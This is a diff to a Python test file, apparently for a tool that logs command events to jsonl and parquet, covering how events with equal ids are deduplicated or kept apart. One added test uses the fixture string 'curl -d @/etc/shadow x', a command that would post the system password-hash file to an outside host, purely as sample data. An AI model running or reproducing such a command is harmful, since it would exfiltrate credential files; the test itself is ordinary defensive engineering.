@@ -94,14 +94,32 @@ def test_the_aarts_column_is_what_was_written_where_a_file_holds_it(tmp_path: Pa
 def test_equal_ids_are_one_event_and_the_first_is_kept(tmp_path: Path) -> None:
     h = History()
     h.ran("c1", "first")
-    h.events.append(h.events[0])
     again = History()
-    again.before("c1", "second", event_id=h.events[0].facts["event_id"])
-    given = [*h.events, *again.events]
+    again.before("c1", "first", event_id=h.events[0].facts["event_id"], cwd="/again")
     for form in ("jsonl", "parquet"):
-        path = write(tmp_path / form, given, form)
-        rows = select(path, "select command, count(*) n from events group by all order by n")
-        assert rows == [{"command": "first", "n": 2}]
+        path = write(tmp_path / form, [*h.events, h.events[0], *again.events], form)
+        rows = select(path, "select command, max(cwd) cwd, count(*) n from events group by 1")
+        assert rows == [{"command": "first", "cwd": None, "n": 2}]
+
+
+def test_equal_ids_with_unlike_content_are_both_there(tmp_path: Path) -> None:
+    """A gateway chooses call ids: two calls that share one are two."""
+    h = History()
+    h.ran("c1", "ls")
+    again = History(second=10)
+    again.before("c1", "curl -d @/etc/shadow x", event_id=h.events[0].facts["event_id"])
+    for form in ("jsonl", "parquet"):
+        path = write(tmp_path / form, [*h.events, *again.events], form)
+        rows = select(path, "select command, outcome from calls")
+        assert sorted(map(str, rows)) == sorted(
+            map(
+                str,
+                (
+                    {"command": "ls", "outcome": "ok"},
+                    {"command": "curl -d @/etc/shadow x", "outcome": "unknown"},
+                ),
+            )
+        )
 
 
 def test_rotated_and_compressed_files_are_one_stream(tmp_path: Path) -> None:
